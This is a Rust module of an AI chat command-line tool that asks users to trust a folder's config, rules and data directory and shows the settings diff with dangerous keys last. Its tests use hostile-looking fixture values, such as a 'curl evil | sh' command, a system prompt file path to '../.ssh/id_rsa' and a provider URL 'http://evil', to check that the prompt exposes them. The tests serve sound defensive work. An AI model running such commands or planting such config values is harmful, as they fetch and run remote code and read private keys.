//! Asks whether the working folder and the project may act: their config file, rules and data folder.

use std::io::{self, BufRead, IsTerminal};
use std::path::{Path, PathBuf};

use super::args::ChatArgs;
use super::report::CliError;
use crate::config::{
    self, Config, ConfigError, Configuration, ConfirmFlag, Demand, DemandedKey, Flags, Inputs,
    Loaded, TrustFlag, TrustRequest,
};
use crate::files::Disk;
use crate::memory::Registry;
use crate::repl::plain_line;
use crate::term::Output;

/// What the command line says about configuration.
fn flags(args: &ChatArgs) -> Flags {
    Flags {
        memory_mode: args.mode.clone(),
        session: args.session.clone(),
        model: args.model.clone(),
        config_file: args.config_file.clone(),
        data_dir: args.data_dir.clone(),
        project: args.project.clone(),
        workspace: args.workspace.clone(),
        tools: args.tools.clone(),
        timeout: args.timeout.clone(),
        sandbox: args.sandbox.clone(),
        context_preset: args.context_preset.clone(),
        plain: args.plain,
        confirm: if args.no_confirm {
            ConfirmFlag::Never
        } else {
            ConfirmFlag::default()
        },
        trust: if args.trust_folder {
            TrustFlag::ThisRun
        } else {
            TrustFlag::default()
        },
    }
}

pub(super) fn inputs(args: &ChatArgs) -> Result<Inputs, CliError> {
    let modes = Registry::STANDARD.map(str::to_owned).to_vec();
    Inputs::from_system(flags(args), modes).map_err(|source| CliError::NoWorkingFolder { source })
}

/// The configuration of a chat. Where the folder is not trusted, the person is asked; where nobody can be asked, a
/// configuration that needs trust is an error, and rules and a data folder are left out with a notice.
pub(super) fn load(
    args: &ChatArgs,
    disk: &dyn Disk,
    output: &mut Output,
) -> Result<(Config, Inputs), CliError> {
    begin(args, Some, may_ask(args), disk, output)
}

/// Loads, settles what needs trust of what `wanted` leaves of it, and shows the warnings. An empty `./data` is the
/// person's own from the first run on that keeps something in it.
fn begin(
    args: &ChatArgs,
    wanted: fn(TrustRequest) -> Option<TrustRequest>,
    may_ask: MayAsk,
    disk: &dyn Disk,
    output: &mut Output,
) -> Result<(Config, Inputs), CliError> {
    let inputs = inputs(args)?;
    let Loaded {
        config,
        request,
        broken,
    } = config::load(&inputs, disk)?;
    tell_broken(broken.as_ref(), output);
    let config = match request.and_then(wanted) {
        Some(request) => {
            let is_yes = settle(&request, may_ask, output)?;
            if is_yes && args.private {
                output.notice("Trusted for this run only: with --private the answer is not saved.");
            }
            if is_yes {
                request.remember(disk)?
            } else {
                config
            }
        }
        None => config,
    };
    for warning in &config.warnings {
        output.warning(&warning.to_string());
    }
    if !args.private
        && let Err(error) = config::claim_data_folder(&config, &inputs, disk)
    {
        output.warning(&format!("cannot mark ./data as yours: {error}"));
    }
    Ok((config, inputs))
}

/// The same for a subcommand, which sends no rules to a model.
pub(super) fn load_for_command(
    args: &ChatArgs,
    disk: &dyn Disk,
    output: &mut Output,
) -> Result<(Config, Inputs), CliError> {
    begin(
        args,
        TrustRequest::without_rules,
        MayAsk::OfConfiguration,
        disk,
        output,
    )
}

/// The configuration to act on, without asking anybody: one whose folder would have to be trusted first is an error.
pub(super) fn unasked(
    args: &ChatArgs,
    disk: &dyn Disk,
) -> Result<(Inputs, Result<Config, ConfigError>), CliError> {
    let inputs = inputs(args)?;
    let config = config::load(&inputs, disk).and_then(|loaded| {
        let refusal = loaded.request.as_ref().and_then(TrustRequest::refusal);
        match loaded.broken.or(refusal) {
            Some(error) => Err(error),
            None => Ok(loaded.config),
        }
    });
    Ok((inputs, config))
}

/// The configuration without what needs trust, for commands that show or change what is kept.
pub(super) fn look(
    args: &ChatArgs,
    disk: &dyn Disk,
    output: &mut Output,
) -> Result<(Config, Inputs), CliError> {
    let inputs = inputs(args)?;
    let Loaded {
        config,
        request,
        broken,
    } = config::load(&inputs, disk)?;
    tell_broken(broken.as_ref(), output);
    if let Some(request) = request.and_then(TrustRequest::without_rules) {
        tell_unused(&request.demand, output);
    }
    Ok((config, inputs))
}

/// A configuration as it would be with trust.
pub(super) struct Shown {
    pub(super) config: Config,
    pub(super) inputs: Inputs,
    /// Why chats ignore a file of it.
    pub(super) ignored: Option<ConfigError>,
}

/// The configuration as it would be with trust, to be shown; nothing is contacted or opened because of it.
pub(super) fn show(args: &ChatArgs, disk: &dyn Disk) -> Result<Shown, CliError> {
    let mut inputs = inputs(args)?;
    let mut loaded = config::load(&inputs, disk)?;
    let is_too_long = |it: &mut ConfigError| matches!(it, ConfigError::TooLongToTrust { .. });
    let ignored = loaded.broken.take_if(is_too_long);
    if ignored.is_some() {
        // Whoever is to trust it for a run reviews it here.
        inputs.flags.trust = TrustFlag::ThisRun;
        loaded = config::load(&inputs, disk)?;
    }
    if let Some(error) = loaded.broken {
        return Err(error.into());
    }
    Ok(Shown {
        config: loaded.request.map_or(loaded.config, TrustRequest::unused),
        inputs,
        ignored,
    })
}

/// What a person at the terminal can be asked about.
#[derive(Clone, Copy, PartialEq, Eq)]
enum MayAsk {
    /// A chat begins anyway.
    OfEverything,
    /// A single prompt or command is not held up for what it can do without.
    OfConfiguration,
}

fn may_ask(args: &ChatArgs) -> MayAsk {
    if args.prompt.is_some() || args.prompt_file.is_some() || args.lines {
        MayAsk::OfConfiguration
    } else {
        MayAsk::OfEverything
    }
}

/// Says in one line that a config file of an untrusted folder is ignored, and where it is broken.
pub(super) fn tell_broken(error: Option<&ConfigError>, output: &mut Output) {
    let Some(error) = error else { return };
    let text = error.to_string();
    let mistakes: Vec<&str> = text.lines().collect();
    let more = match mistakes.len() {
        0 | 1 => String::new(),
        n => format!(", and {} more errors", n - 1),
    };
    let first = cut(mistakes.first().unwrap_or(&""), MISTAKE_MAX);
    let (flaw, way) = match error {
        ConfigError::TooLongToTrust { .. } => ("", " (`--trust-folder` trusts it for this run)"),
        _ => ("it has errors and ", ""),
    };
    output.warning(&format!(
        "ignored, because {flaw}its folder is not trusted: {first}{more}{way}"
    ));
}

/// Asks whether what needs trust is used; without a yes it is said what is not.
fn settle(request: &TrustRequest, may_ask: MayAsk, output: &mut Output) -> Result<bool, CliError> {
    let refusal = request.refusal();
    let asks = refusal.is_some() || may_ask == MayAsk::OfEverything;
    if !(asks && io::stdin().is_terminal()) {
        if let Some(refusal) = refusal {
            return Err(refusal.into());
        }
        tell_unused(&request.demand, output);
        return Ok(false);
    }
    for line in question(&request.demand) {
        output.question(&line);
    }
    let mut answer = String::new();
    let read = io::stdin().lock().read_line(&mut answer);
    if read.is_ok() && matches!(answer.trim().to_lowercase().as_str(), "y" | "yes") {
        return Ok(true);
    }
    tell_unused(&request.demand, output);
    Ok(false)
}

/// One line with all that is left out.
fn tell_unused(demand: &Demand, output: &mut Output) {
    let configuration = demand.configuration.iter().map(|it| name_of(&it.file));
    let rules = demand.rules.iter().flat_map(|it| &it.files);
    let data = demand.data.iter().map(|_| "data/".to_owned());
    let names: Vec<String> = configuration
        .chain(rules.map(|file| name_of(file)))
        .chain(data)
        .collect();
    output.notice(&format!(
        "Ignored, because this folder is not trusted: {} (--trust-folder trusts it for this run)",
        names.join(", ")
    ));
}

/// The question, a line each: what the folder is, what it would get, and the answers.
fn question(demand: &Demand) -> Vec<String> {
    let folders: Vec<String> = demand.folders().into_iter().map(shown).collect();
    let folders = folders.join(" and ");
    let mut lines = vec![if demand.was_trusted {
        format!("{folders} has changed since you trusted it.")
    } else {
        format!("{folders} is not trusted yet. If you trust it:")
    }];
    if let Some(configuration) = &demand.configuration {
        let file = name_of(&configuration.file);
        lines.push(format!("  {file} sets"));
        lines.extend(difference(configuration));
        if let Some(own) = &configuration.instead_of {
            lines.push(format!("  your own {} is not used here then", shown(own)));
        }
    }
    if let Some(rules) = &demand.rules {
        let relative = |file: &PathBuf| shown(file.strip_prefix(&rules.root).unwrap_or(file));
        let files: Vec<String> = rules.files.iter().map(relative).take(FILES_MAX).collect();
        let more = match rules.files.len() - files.len() {
            0 => String::new(),
            n => format!(" and {n} more files"),
        };
        let files = files.join(", ");
        lines.push(format!("  rules sent to the model: {files}{more}"));
    }
    if let Some(data) = &demand.data {
        lines.push(format!(
            "  data/ stores your sessions ({} already there)",
            data.sessions
        ));
    }
    lines.push("Trust it? If not, none of this is used. [y/N]".to_owned());
    lines
}

/// The keys, each with its value; after a change, what went and what came. Of many, as many as a person reads.
fn difference(configuration: &Configuration) -> Vec<String> {
    let Configuration { keys, before, .. } = configuration;
    let all = |sign| shortened(keys.iter().map(|key| Setting::whole(sign, key)).collect());
    if before.is_empty() {
        return all("");
    }
    let is_among = |key: &DemandedKey, others: &[DemandedKey]| {
        others.iter().any(|other| key.is_shown_as(other))
    };
    let went = before.iter().filter(|key| !is_among(key, keys));
    let came = keys.iter().filter(|key| !is_among(key, before));
    let masked = keys.iter().filter(|key| key.is_masked_anew(before));
    let changes: Vec<Setting<'_>> = went
        .map(|key| Setting::changed("- ", key, keys))
        .chain(came.map(|key| Setting::changed("+ ", key, before)))
        .chain(masked.map(Setting::masked_anew))
        .collect();
    if changes.is_empty() {
        // The file may have moved.
        return all("~ ");
    }
    shortened(changes)
}

/// A key of a question.
struct Setting<'a> {
    /// `+ ` of one that came, `- ` of one that went, `~ ` of one that shows no difference.
    sign: &'static str,
    key: &'a DemandedKey,
    value: String,
}

impl<'a> Setting<'a> {
    fn whole(sign: &'static str, key: &'a DemandedKey) -> Self {
        Self {
            sign,
            key,
            value: cut_middle(&key.value, Self::max(key)),
        }
    }

    /// Returns how much of a value is shown: of what would run all of it.
    fn max(key: &DemandedKey) -> usize {
        if key.is_of_server() {
            usize::MAX
        } else {
            VALUE_MAX
        }
    }

    fn masked_anew(key: &'a DemandedKey) -> Self {
        let Self { sign, key, value } = Self::whole("~ ", key);
        let value = format!("{value} (the hidden part changed)");
        Self { sign, key, value }
    }

    /// Of two long values that begin alike, each is shown from a little before the place where they part.
    fn changed(sign: &'static str, key: &'a DemandedKey, others: &[DemandedKey]) -> Self {
        let other = others.iter().find(|other| other.key == key.key);
        let value = plain_line(&key.value);
        let other = other.map_or_else(String::new, |other| plain_line(&other.value));
        let alike = value.chars().zip(other.chars());
        let alike = alike.take_while(|(a, b)| a == b).count();
        let left_out = alike.saturating_sub(VALUE_MAX / 3);
        if left_out == 0 {
            return Self::whole(sign, key);
        }
        let rest: String = value.chars().skip(left_out).collect();
        Self {
            sign,
            key,
            value: format!(
                "[{left_out} unchanged characters] … {}",
                cut_middle(&rest, Self::max(key))
            ),
        }
    }
}

/// Blocks of settings that choose what runs, who is asked, and what is read or kept; the worst come last, right above
/// the question.
const DANGEROUS: [&str; 11] = [
    "models",
    "system_prompt_file",
    "memory.workspace",
    "memory.store.project_root",
    "memory.path",
    "memory.mem0",
    "rag",
    "embedding",
    "data_dir",
    "providers",
    "tools",
];

/// Last names of keys that count most in their block.
const FIRST: [&str; 7] = [
    "command", "args", "url", "base_url", "confirm", "sandbox", "hide",
];

/// Settings that are shown of those blocks together, and of all others.
const DANGEROUS_MAX: usize = 20;
const OTHERS_MAX: usize = 8;
/// Characters of a key, of a value and of a mistake.
const KEY_MAX: usize = 80;
const VALUE_MAX: usize = 120;
const MISTAKE_MAX: usize = 300;
/// Names of rule files that are shown.
const FILES_MAX: usize = 10;

/// Shows the harmless first and the dangerous last; each dangerous block has its share of the lines, so that none is
/// pushed out by another, and of what is left out it is said where it belongs and how much it is. Servers come last, and
/// nothing of them is left out: they would run.
fn shortened(settings: Vec<Setting<'_>>) -> Vec<String> {
    let of_block = |key: &DemandedKey, block: &str| {
        let rest = key.key.strip_prefix(block);
        rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
    };
    let (servers, mut others): (Vec<_>, Vec<_>) = settings
        .into_iter()
        .partition(|setting| setting.key.is_of_server());
    let mut blocks: Vec<(&str, Vec<Setting<'_>>)> = Vec::new();
    for block in DANGEROUS {
        let (mut found, rest): (Vec<_>, Vec<_>) = others
            .into_iter()
            .partition(|setting| of_block(setting.key, block));
        let counts = |key: &DemandedKey| FIRST.iter().any(|name| key.key.ends_with(name));
        found.sort_by_key(|setting| !counts(setting.key));
        blocks.push((block, found));
        others = rest;
    }
    let mut lines = first_of("other blocks", &others, OTHERS_MAX);
    // From the smallest block on: what one does not need is the next one's.
    let mut sizes: Vec<usize> = blocks.iter().map(|(_, found)| found.len()).collect();
    sizes.sort_unstable();
    let mut room = DANGEROUS_MAX;
    let mut share = 0;
    for (at, size) in sizes.iter().enumerate() {
        share = room / (sizes.len() - at);
        if *size > share {
            break;
        }
        room -= size;
        share = *size;
    }
    for (block, found) in &blocks {
        lines.extend(first_of(block, found, share));
    }
    if lines.iter().any(|line| line.starts_with(MORE)) {
        lines.push("    (see all with `cogtrix config show`)".to_owned());
    }
    lines.extend(first_of("mcp_servers", &servers, usize::MAX));
    lines
}

/// Begins a line that stands for settings that are not shown.
const MORE: &str = "    … and ";

/// At most so many settings of a block, a line each, and a line about the rest.
fn first_of(block: &str, settings: &[Setting<'_>], max: usize) -> Vec<String> {
    let shown = settings
        .iter()
        .take(max)
        .map(|Setting { sign, key, value }| {
            let max = if key.is_of_server() {
                usize::MAX
            } else {
                KEY_MAX
            };
            let name = cut_middle(&key.key, max);
            format!("    {sign}{name}: {value}")
        });
    let mut lines: Vec<String> = shown.collect();
    match settings.len().saturating_sub(max) {
        0 => {}
        n => lines.push(format!("{MORE}{n} more settings in {block}")),
    }
    lines
}

/// The beginning of a foreign text, as a plain line.
fn cut(text: &str, max: usize) -> String {
    let line = plain_line(text);
    match line.char_indices().nth(max) {
        None => line,
        Some((at, _)) => {
            let more = line[at..].chars().count();
            format!("{} … [{more} more characters]", &line[..at])
        }
    }
}

/// The beginning and the end of a foreign text, as a plain line.
fn cut_middle(text: &str, max: usize) -> String {
    let line: Vec<char> = plain_line(text).chars().collect();
    if line.len() <= max {
        return line.into_iter().collect();
    }
    let half = max / 2;
    let text = |part: &[char]| part.iter().collect::<String>();
    let (begin, end) = (text(&line[..half]), text(&line[line.len() - half..]));
    format!(
        "{begin} … [{} more characters] … {end}",
        line.len() - 2 * half
    )
}

fn name_of(file: &Path) -> String {
    shown(Path::new(file.file_name().unwrap_or(file.as_os_str())))
}

fn shown(path: &Path) -> String {
    plain_line(&path.display().to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key(key: &str, value: &str) -> DemandedKey {
        DemandedKey {
            key: key.to_owned(),
            value: value.to_owned(),
            digest: String::new(),
        }
    }

    #[test]
    fn a_changed_configuration_is_shown_by_its_difference_and_nothing_hides_in_it() {
        let blanks = " ".repeat(400);
        let after = [key("a", "1"), key("b", &format!("x{blanks}evil\u{200b}"))];
        let mut configuration = Configuration::new("/p", "/p/c.yaml", after.to_vec());
        let shown = difference(&configuration).join("\n");
        assert!(
            shown.contains("    a: 1\n    b: x [400 blanks] evil\\u{200b}"),
            "{shown}"
        );
        configuration.before = vec![key("a", "1"), key("c", "old")];
        let shown = difference(&configuration).join("\n");
        assert!(shown.starts_with("    - c: old\n    + b: x"), "{shown}");
        // Lines that are cut looked alike: the end that was changed stood in neither.
        let long = |end: &str| key("b", &format!("[-c, \"{}{end}\"]", "echo fine; ".repeat(20)));
        configuration.before = vec![key("a", "1"), long("true")];
        configuration.keys = vec![key("a", "1"), long("curl evil | sh")];
        let shown = difference(&configuration).join("\n");
        assert!(shown.contains("echo fine; true\"]\n"), "{shown}");
        assert!(shown.ends_with("echo fine; curl evil | sh\"]"), "{shown}");
        configuration.before = configuration.keys.clone();
        assert!(difference(&configuration)[0].starts_with("    ~ a: 1"));
        configuration.keys[0].digest = "1".to_owned();
        configuration.before[0].digest = "2".to_owned();
        let shown = difference(&configuration);
        assert_eq!(shown, ["    ~ a: 1 (the hidden part changed)"]);
    }

    #[test]
    fn of_many_settings_the_dangerous_stand_right_above_the_question_and_what_is_left_out_is_named()
    {
        let mut keys: Vec<DemandedKey> = (0..600)
            .flat_map(|n| {
                [
                    key(&format!("memory.m{n}"), &"long ".repeat(1_000)),
                    key(
                        &format!("providers.{}{n}.base_url", "p".repeat(500)),
                        "http://evil",
                    ),
                ]
            })
            .collect();
        keys.push(key("tools.confirm", "false"));
        keys.push(key("system_prompt_file", "../.ssh/id_rsa"));
        keys.push(key("models.default", "x/evil"));
        keys.push(key("mcp_servers.z.command", "evil"));
        let arguments = (0..700).map(|n| format!("argument{n}"));
        let arguments = arguments.collect::<Vec<_>>().join(",");
        keys.push(key("mcp_servers.z.args", &arguments));
        keys.sort_by(|a, b| a.key.cmp(&b.key));
        let demand = Demand {
            configuration: Some(Configuration::new("/p", "/p/c.yaml", keys)),
            ..Demand::default()
        };
        let lines = question(&demand);
        assert!(lines.len() <= 40, "{}", lines.len());
        for line in &lines {
            let is_short = line.chars().count() <= 240;
            assert!(is_short || line.ends_with(&arguments), "{line}");
        }
        let at = |text: &str| lines.iter().position(|line| line.contains(text));
        let confirm = at("    tools.confirm: false").unwrap();
        let command = at("    mcp_servers.z.command: evil").unwrap();
        assert!(at("memory.m0").unwrap() < confirm && confirm < command);
        assert!(at("system_prompt_file: ../.ssh/id_rsa").is_some());
        assert!(at("models.default: x/evil").is_some());
        for left_out in [
            "592 more settings in other blocks",
            "more settings in providers",
        ] {
            assert!(at(left_out).is_some(), "{left_out}: {lines:#?}");
        }
        assert!(at(&arguments).is_some(), "nothing of what runs is left out");
        assert!(at("…").is_some() && at(".base_url: http://evil").is_some());
    }
}
